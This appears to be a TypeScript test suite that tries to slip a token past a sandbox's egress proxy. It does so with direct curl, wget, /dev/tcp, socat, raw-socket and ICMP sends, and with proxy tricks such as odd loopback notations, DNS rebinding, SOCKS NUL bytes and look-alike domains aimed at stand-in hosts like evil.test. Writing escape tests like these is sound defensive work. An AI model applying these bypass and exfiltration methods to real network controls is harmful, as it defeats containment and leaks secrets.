import { type Attempt, python, tokenLooted, tokenReceived } from '../attempt.ts';

const send = (name: string, script: string, onlyAsRoot = false): Attempt => ({
  name,
  onlyAsRoot,
  script,
  escaped: tokenReceived,
});

/** Past the proxy. */
export const directNetwork: readonly Attempt[] = [
  send('curl', 'curl -s -m 3 --noproxy "*" "http://127.0.0.1:$PORT/$TOKEN"'),
  send('curl-own-address', 'curl -s -m 3 --noproxy "*" "http://$OWN:$PORT/$TOKEN"'),
  send(
    'curl-without-variables',
    'env -u http_proxy -u HTTP_PROXY -u ALL_PROXY -u all_proxy curl -s -m 3 "http://$OWN:$PORT/$TOKEN"',
  ),
  send('wget', 'wget -q -O- -T 3 -t 1 --no-proxy "http://$OWN:$PORT/$TOKEN"'),
  send('shell-device', 'exec 3<>"/dev/tcp/127.0.0.1/$PORT"; echo "$TOKEN" >&3'),
  send('shell-device-datagram', 'echo "$TOKEN" > "/dev/udp/$OWN/$UDP"; sleep 0.1'),
  send(
    'socket',
    python(
      "import socket; s = socket.create_connection((E['OWN'], E['PORT']), 3); s.sendall(E['TOKEN'].encode()); s.recv(9)",
    ),
  ),
  send(
    'socket-ipv6',
    python(
      "import socket; s = socket.create_connection(('::1', E['PORT6']), 3); s.sendall(E['TOKEN'].encode()); s.recv(9)",
    ),
  ),
  send(
    'socket-any-address',
    python(
      "import socket; s = socket.create_connection(('0.0.0.0', E['PORT']), 3); s.sendall(E['TOKEN'].encode()); s.recv(9)",
    ),
  ),
  send(
    'datagram',
    python(
      "import socket, time; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(E['TOKEN'].encode(), ('127.0.0.1', int(E['UDP']))); time.sleep(.1)",
    ),
  ),
  send(
    'datagram-as-a-question',
    python(
      "import socket, time; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(bytes([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + bytes([len(E['TOKEN'])]) + E['TOKEN'].encode() + bytes([0, 0, 16, 0, 1]), (E['OWN'], int(E['UDP']))); time.sleep(.1)",
    ),
  ),
  send('socat', 'printf %s "$TOKEN" | socat -T 3 - "TCP:$OWN:$PORT,connect-timeout=3"'),
  send('socat-datagram', 'printf %s "$TOKEN" | socat -T 1 - "UDP:$OWN:$UDP"'),
  {
    // The echo comes back with what was sent; nobody but the other side could have sent it.
    ...send(
      'icmp',
      python(`
import socket, struct
t = E['TOKEN'].encode(); s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(3)
def summed(b):
    b += b'\\0' * (len(b) % 2); n = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    n = (n >> 16) + (n & 65535); return ~(n + (n >> 16)) & 65535
ask = lambda c: struct.pack('!BBHHH', 8, 0, c, 7, 1) + t
s.sendto(ask(summed(ask(0))), (E['OWN'], 0))
while True:
    d, _ = s.recvfrom(999)
    if d[20] == 0 and t in d: print(E['TOKEN']); break`),
      true,
    ),
    escaped: tokenLooted,
  },
  send('address-in-decimal', 'curl -s -m 3 --noproxy "*" "http://2130706433:$PORT/$TOKEN"'),
  send(
    'node',
    `node -e 'require("http").get({ host: process.env.OWN, port: process.env.PORT, path: "/" + process.env.TOKEN, agent: false }, r => r.resume())'`,
  ),
  send(
    'raw-socket',
    python(`
import socket, struct, time
t = E['TOKEN'].encode(); o = socket.inet_aton(E['OWN'])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
u = struct.pack('!HHHH', 9, int(E['UDP']), 8 + len(t), 0) + t
h = struct.pack('!BBHHHBBH4s4s', 69, 0, 20 + len(u), 1, 0, 64, 17, 0, o, o)
s.sendto(h + u, (E['OWN'], 0)); time.sleep(.1)`),
    true,
  ),
];

const through = (name: string, target: string, how = 'connect'): Attempt =>
  send(name, `python3 "$CLIENT" ${how} '${target}'`);
const get = (name: string, url: string): Attempt => send(name, `python3 "$CLIENT" get '${url}'`);

/** Through the proxy, to where the rules do not lead. What the names are is in `egress.ts`. */
export const proxiedNetwork: readonly Attempt[] = [
  ...[
    '127.0.0.1',
    'localhost',
    'LOCALHOST',
    'localhost.',
    '2130706433',
    '0177.0.0.1',
    '0x7f000001',
    '0x7f.1',
    '127.1',
    '127.0.0.1.',
    '127.1.2.3',
    '0.0.0.0',
    '0',
    '[::ffff:127.0.0.1]',
    '[::ffff:7f00:1]',
    '[0:0:0:0:0:ffff:127.0.0.1]',
    '@OWN@',
  ].map((host) => through(`notation-${slug(host)}`, `${host}:@PORT@`)),
  through('notation-ipv6', '[::1]:@PORT6@'),
  through('notation-ipv6-long', '[0:0:0:0:0:0:0:1]:@PORT6@'),
  get('get-loopback', 'http://127.0.0.1:@PORT@/@TOKEN@'),
  get('get-with-user', 'http://api.good.test@evil.test/@TOKEN@'),
  through('unlisted-name', 'evil.test:443'),
  through('unlisted-address', '93.184.216.35:443'),
  through('odd-port', 'api.good.test:8080'),
  through('look-alike-suffix', 'api.good.test.evil.test:443'),
  through('look-alike-prefix', 'evilapi.good.test:443'),
  through('look-alike-hyphen', 'malicious-wild.test:443'),
  through('apex-of-a-wildcard', 'wild.test:443'),
  through('below-a-name', 'sub.api.good.test:443'),
  through('wildcard-as-a-name', '*.evil.test:443'),
  through('full-width-dot', 'evil。test:443'),
  through('resolves-to-loopback', 'loop.good.test:@PORT@'),
  through('resolves-to-loopback-ipv6', 'loop6.good.test:@PORT6@'),
  through('resolves-to-mapped', 'mapped.good.test:@PORT@'),
  through('resolves-to-metadata', 'meta.good.test:80'),
  ...['zero', 'link', 'nat64', 'sixtofour', 'teredo', 'isatap', 'compatible'].map((kind) =>
    through(`resolves-to-${kind}`, `${kind}.good.test:@PORT@`),
  ),
  ...['multicast', 'broadcast', 'unique-local', 'cloud'].map((kind) =>
    through(`resolves-to-${kind}`, `${kind}.good.test:80`),
  ),
  through('resolves-to-private', 'private.good.test:80'),
  through('resolves-to-cgnat', 'cgnat.good.test:80'),
  through('resolves-to-own-address', 'own.good.test:@PORT@'),
  through('resolves-to-both', 'both.good.test:@PORT@'),
  through('changes-its-mind', 'rebind.good.test:@PORT@', 'twice'),
  through('socks-loopback', '127.0.0.1:@PORT@', 'socks-address'),
  through('socks-loopback-name', 'localhost:@PORT@', 'socks'),
  through('socks-unlisted', 'evil.test:443', 'socks'),
  through('socks-nul-byte', 'evil.test%00.wild.test:443', 'socks'),
  through('socks-nul-byte-at-end', 'evil.test%00api.good.test:443', 'socks'),
  through('socks-ipv6-mapped', '::ffff:127.0.0.1:@PORT@', 'socks-address6'),
  through('socks-fourth-version', '127.0.0.1:@PORT@', 'socks4'),
  through('other-host-in-header', 'evil.test:443', 'connect-with-host'),
  get('second-request-elsewhere', 'pipeline'),
  // The first half of it is allowed: the proxy works.
  { ...get('redirect-followed', 'redirect'), printsInside: 'redirected' },
];

/** With an empty list; after an update that was refused; after the proxy went. */
export const changedNetwork = {
  empty: [
    through('empty-list-name', 'evil.test:443'),
    through('empty-list-former', 'api.good.test:443'),
    through('empty-list-address', '93.184.216.35:443', 'socks-address'),
  ],
  'broken-update': [
    through('broken-update-new-name', 'evil.test:443'),
    through('broken-update-any-name', 'anything.evil.test:443'),
  ],
  narrowed: [
    through('narrowed-former-name', 'api.good.test:443'),
    through('narrowed-open-tunnel', 'api.good.test:443', 'late'),
  ],
  'proxy-gone': [
    through('proxy-gone-name', 'evil.test:443'),
    through('proxy-gone-allowed', 'api.good.test:443'),
    send('proxy-gone-direct', 'curl -s -m 3 --noproxy "*" "http://$OWN:$PORT/$TOKEN"'),
  ],
} as const;

function slug(text: string): string {
  return text
    .toLowerCase()
    .replaceAll('.', '-')
    .replaceAll(/[^a-z0-9-]/g, 'x');
}
